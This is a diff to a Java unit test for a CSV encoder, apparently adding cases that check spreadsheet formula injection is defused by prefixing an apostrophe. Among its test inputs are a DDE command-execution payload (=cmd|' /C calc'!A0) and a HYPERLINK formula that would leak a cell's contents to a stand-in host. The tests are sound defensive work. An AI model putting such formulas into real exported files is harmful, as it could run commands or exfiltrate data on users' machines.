@@ -87,18 +87,57 @@ class CsvEncoderTest {
         assertThat(csv(options, row(int4(1), text("=a")))).isEqualTo("1,'=a\r\n");
     }
 
+    /** OWASP, CSV Injection: the signs, tab, carriage return, line feed, the full-width forms; written by hand. */
     @ParameterizedTest
-    @ValueSource(strings = {"=1+1", "+1", "-1", "@a", "\tx", "=", "-"})
-    void excel_cells_that_begin_a_formula_become_text(String value) {
+    @CsvSource(
+            quoteCharacter = '~',
+            ignoreLeadingAndTrailingWhitespace = false,
+            delimiter = '|',
+            value = {
+                "=1+1|'=1+1",
+                "+1|'+1",
+                "-1|'-1",
+                "@SUM(1)|'@SUM(1)",
+                "=|'=",
+                "~\tx~|~'\tx~",
+                "~\t=1~|~'\t=1~",
+                "~\r=1~|~\"'\r=1\"~",
+                "~\n=1~|~\"'\n=1\"~",
+                "\uff1d1|'\uff1d1",
+                "\uff0b1|'\uff0b1",
+                "\uff0d1|'\uff0d1",
+                "\uff20x|'\uff20x",
+                "=a(\"b\",1)|\"'=a(\"\"b\"\",1)\"",
+                "~=cmd|' /C calc'!A0~|~'=cmd|' /C calc'!A0~",
+                "~=HYPERLINK(\"http://x/?\"&A1;\"y\")~|~\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"y\"\")\"~"
+            })
+    void excel_cells_that_begin_a_formula_become_text(String value, String cell) {
         CsvOptions options = new CsvOptions(false, ',', "", true);
-        assertThat(csv(options, row(int4(1), text(value)))).isEqualTo("\ufeff1,'" + value + "\r\n");
+        assertThat(csv(options, row(int4(1), text(value)))).isEqualTo("\ufeff1," + cell + "\r\n");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "1=1", "a-b", " =1", "'=1", "\u2212", "\uff1c1", "\uff0c", "\ufeff", "\uff10", "\uffe5", "#N/A", "x"
+            })
+    void excel_cells_that_begin_no_formula_stay_as_they_are(String value) {
+        CsvOptions options = new CsvOptions(false, ',', "", true);
+        assertThat(csv(options, row(int4(1), text(value)))).isEqualTo("\ufeff1," + value + "\r\n");
     }
 
     @Test
-    void excel_cells_are_defused_inside_their_quotes() {
-        CsvOptions options = new CsvOptions(false, ',', "", true);
-        assertThat(csv(options, row(int4(1), text("=a(\"b\",1)")))).isEqualTo("\ufeff1,\"'=a(\"\"b\"\",1)\"\r\n");
-        assertThat(csv(options, row(int4(1), text("\ra")))).isEqualTo("\ufeff1,\"'\ra\"\r\n");
+    void what_stands_for_a_null_is_no_formula_for_excel_either() {
+        CsvOptions options = new CsvOptions(false, ';', "=1", true);
+        assertThat(csv(options, row(int4(1), NULL), row(int4(2), text("=1")), row(int4(3), text("'=1"))))
+                .isEqualTo("\ufeff1;'=1\r\n2;\"'=1\"\r\n3;\"'=1\"\r\n");
+    }
+
+    @Test
+    void excel_cells_with_another_delimiter_are_quoted_for_that_one() {
+        CsvOptions options = new CsvOptions(true, ';', "", true);
+        assertThat(csv(options, row(int4(-1), text("a;b")), row(int4(2), text("a,b")), row(int4(3), text("-a;b"))))
+                .isEqualTo("\ufeffid;name\r\n-1;\"a;b\"\r\n2;a,b\r\n3;\"'-a;b\"\r\n");
     }
 
     @Test
